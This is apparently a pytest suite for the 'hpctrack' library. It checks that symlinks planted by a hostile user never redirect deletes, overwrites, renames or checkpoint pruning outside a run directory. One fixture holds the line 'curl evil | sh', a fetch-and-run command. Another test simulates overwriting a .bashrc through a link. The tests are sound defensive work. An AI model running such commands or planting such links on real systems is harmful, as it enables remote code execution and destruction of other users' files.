"""Symlinks planted under the root never lead a delete, overwrite or rename out of the run or sweep.

Each test plants the link as a hostile user with write access to the sweep
would, then does what the sweep's owner normally does, and checks that the
link's target is intact and that the refusal is one line naming the path.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest
from conftest import error_lines, run_cli

from hpctrack import start_run
from hpctrack.errors import UnsafePathError
from hpctrack.launch import SweepRequest, submit_sweep, wait_for_sweep
from hpctrack.store import open_store


def _victim(tmp_path: Path, name: str = "victim") -> Path:
    victim = tmp_path / name
    victim.mkdir()
    (victim / "thesis.tex").write_text("years of work\n")
    (victim / "x_submitted.pkl").write_bytes(b"precious pickle")
    (victim / "7_submission.sh").write_text("#!/bin/sh\n")
    return victim


def _intact(victim: Path) -> None:
    assert sorted(p.name for p in victim.iterdir()) == ["7_submission.sh", "thesis.tex", "x_submitted.pkl"]
    assert (victim / "thesis.tex").read_text() == "years of work\n"


def _one_line(err: BaseException, path: Path) -> None:
    text = str(err)
    assert "\n" not in text and str(path) in text and "symlink" in text


def test_zarr_clean_up_never_follows_a_symlinked_store(hpctrack_root, tmp_path):
    with start_run({"a": 1}, name="z", store="zarr") as run:
        run.log({"x": 1.0})
    run_dir = run.run_dir
    victim = _victim(tmp_path)
    shutil.rmtree(run_dir / "run.zarr")
    os.symlink(victim, run_dir / "run.zarr")
    with pytest.raises(UnsafePathError) as err:
        open_store(run_dir, "zarr").write(sections={"summary": {"x": 2.0}})
    _one_line(err.value, run_dir / "run.zarr")
    _intact(victim)


def test_zarr_writes_never_go_through_a_symlinked_column(hpctrack_root, tmp_path):
    with start_run({"a": 1}, name="z", store="zarr") as run:
        run.log({"x": 1.0})
    store_dir = run.run_dir / "run.zarr"
    victim = _victim(tmp_path)
    column = next(p for p in store_dir.iterdir() if p.is_dir())
    shutil.rmtree(column)
    os.symlink(victim, column)
    store = open_store(run.run_dir, "zarr")
    with pytest.raises(UnsafePathError):
        store.write(sections={"summary": {"x": 2.0}})
    _intact(victim)


def test_a_job_never_writes_into_a_symlinked_run_directory(hpctrack_root, tmp_path):
    from hpctrack._start import open_job_run

    manifest = _ended_sweep("h", jobs=1)
    victim = _victim(tmp_path)
    for name in ("run.0.h5", ".run.h5.x.tmp"):
        (victim / name).write_bytes(b"not yours")
    run_dir = manifest.run_path(0)
    shutil.rmtree(run_dir)
    os.symlink(victim, run_dir)
    with pytest.raises(UnsafePathError) as err:
        open_job_run(manifest.path, 0)
    _one_line(err.value, run_dir)
    assert (victim / "run.0.h5").read_bytes() == b"not yours" and (victim / ".run.h5.x.tmp").exists()
    _intact_with = sorted(p.name for p in victim.iterdir())
    assert _intact_with == [".run.h5.x.tmp", "7_submission.sh", "run.0.h5", "thesis.tex", "x_submitted.pkl"]


def _ended_sweep(name: str, jobs: int = 2):
    def job(index: int) -> None:
        from hpctrack import current_run

        current_run().log({"x": float(index)})

    manifest = submit_sweep(SweepRequest(jobs=[[f"a={i}"] for i in range(jobs)], backend_options={"parallel": 2},
                                         name=name), job)  # fmt: skip
    return wait_for_sweep(manifest.path)


def test_gc_never_deletes_through_a_symlinked_job_log_folder(hpctrack_root, tmp_path):
    manifest = _ended_sweep("gc1")
    victim = _victim(tmp_path)
    logs = manifest.run_path(1) / "logs"
    shutil.rmtree(logs)
    os.symlink(victim, logs)
    proc = run_cli("gc", "gc1")
    _intact(victim)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    (line,) = error_lines(proc.stderr)
    assert str(logs) in line and "symlink" in line


def test_gc_never_deletes_through_a_symlinked_sweep_log_folder(hpctrack_root, tmp_path):
    manifest = _ended_sweep("gc2")
    victim = _victim(tmp_path, "v2")
    (victim / "123").mkdir()
    (victim / "123" / "123_submission.sh").write_text("#!/bin/sh\n")
    shutil.rmtree(manifest.path / "logs", ignore_errors=True)
    os.symlink(victim, manifest.path / "logs")
    proc = run_cli("gc", "gc2")
    assert (victim / "123" / "123_submission.sh").exists()
    shutil.rmtree(victim / "123")
    _intact(victim)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    (line,) = error_lines(proc.stderr)
    assert str(manifest.path / "logs") in line


def test_log_artifact_never_overwrites_through_a_planted_link(hpctrack_root, tmp_path):
    bashrc = tmp_path / "home" / ".bashrc"
    bashrc.parent.mkdir()
    bashrc.write_text("alias ll='ls -l'\n")
    model = tmp_path / "model.txt"
    model.write_text("weights; curl evil | sh\n")
    with start_run({"a": 1}, name="art") as run:
        (run.run_dir / "artifacts").mkdir()
        os.symlink(bashrc, run.run_dir / "artifacts" / "model.txt")
        with pytest.raises(UnsafePathError) as err:
            run.log_artifact(model)
        _one_line(err.value, run.run_dir / "artifacts" / "model.txt")
        # a whole directory, over a planted directory link
        os.symlink(bashrc.parent, run.run_dir / "artifacts" / "conf")
        src = tmp_path / "conf"
        src.mkdir()
        (src / ".bashrc").write_text("pwned\n")
        with pytest.raises(UnsafePathError):
            run.log_artifact(src)
    assert bashrc.read_text() == "alias ll='ls -l'\n"


def test_checkpoint_keep_never_deletes_outside_checkpoints(hpctrack_root, tmp_path):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    for seq in (1, 2):
        folder = outside / f"{seq:06d}"
        folder.mkdir()
        (folder / "meta.json").write_text(json.dumps({"format_version": 1, "step": seq}))
        (folder / "weights.bin").write_bytes(b"w" * 10)
    (outside / ".tmp-abc").mkdir()
    (outside / ".tmp-abc" / "keep.me").write_text("x")
    with start_run({"a": 1}, name="ck") as run:
        os.symlink(outside, run.run_dir / "checkpoints")
        run.log({"x": 1.0})
        with pytest.raises(UnsafePathError) as err:
            run.save_checkpoint({"w": 1}, keep=1)
        _one_line(err.value, run.run_dir / "checkpoints")
    assert sorted(p.name for p in outside.iterdir()) == [".tmp-abc", "000001", "000002"]
    assert (outside / ".tmp-abc" / "keep.me").exists()


def test_checkpoint_keep_removes_a_planted_link_not_its_target(hpctrack_root, tmp_path):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "meta.json").write_text(json.dumps({"format_version": 1, "step": 0}))
    with start_run({"a": 1}, name="ck2") as run:
        run.log({"x": 1.0})
        run.save_checkpoint({"w": 1}, keep=1)
        os.symlink(outside, run.run_dir / "checkpoints" / "000000")  # an "older checkpoint" that is a link
        run.save_checkpoint({"w": 2}, keep=1)
    assert (outside / "meta.json").exists()


def test_move_aside_never_moves_out_of_a_symlinked_run_directory(hpctrack_root, tmp_path):
    from hpctrack.requeue import move_aside

    with start_run({"a": 1}, name="lost") as run:
        run.log({"x": 1.0})
    victim = _victim(tmp_path)
    (victim / "run.h5").write_text("someone else's run\n")
    shutil.rmtree(run.run_dir)
    os.symlink(victim, run.run_dir)
    with pytest.raises(UnsafePathError) as err:
        move_aside(run.run_dir)
    _one_line(err.value, run.run_dir)
    assert (victim / "run.h5").read_text() == "someone else's run\n"
    assert not any(p.name.startswith("lost-") for p in victim.iterdir())


def test_verify_repair_never_renames_a_file_a_planted_link_points_to(hpctrack_root, tmp_path):
    with start_run({"a": 1}, name="rep") as run:
        for step in range(3):
            run.log({"x": float(step)}, step=step)
    run_dir = run.run_dir
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "bad.h5").write_bytes(os.urandom(4096))  # damaged-looking, and not the run's
    os.unlink(run_dir / "run.h5")
    os.symlink(victim / "bad.h5", run_dir / "run.h5")
    proc = run_cli("verify", "rep", "--repair")
    assert sorted(p.name for p in victim.iterdir()) == ["bad.h5"], proc.stdout + proc.stderr
    assert "pointed out of the run" in proc.stdout and "Traceback" not in proc.stderr, proc.stdout + proc.stderr
    assert run_cli("verify", "rep").returncode == 0  # the run's own spare copy was restored


def test_a_planted_link_at_the_next_checkpoints_name_is_skipped_over(hpctrack_root, tmp_path):
    victim = _victim(tmp_path)
    with start_run({"a": 1}, name="ck3") as run:
        run.log({"x": 1.0})
        os.makedirs(run.run_dir / "checkpoints")
        os.symlink(victim, run.run_dir / "checkpoints" / "000001")  # where the first checkpoint would go
        run.save_checkpoint({"w": 1}, keep=1)
        assert run.latest_checkpoint().load() == {"w": 1}
    _intact(victim)
    assert os.path.islink(run.run_dir / "checkpoints" / "000001")  # left as it was: not ours to remove
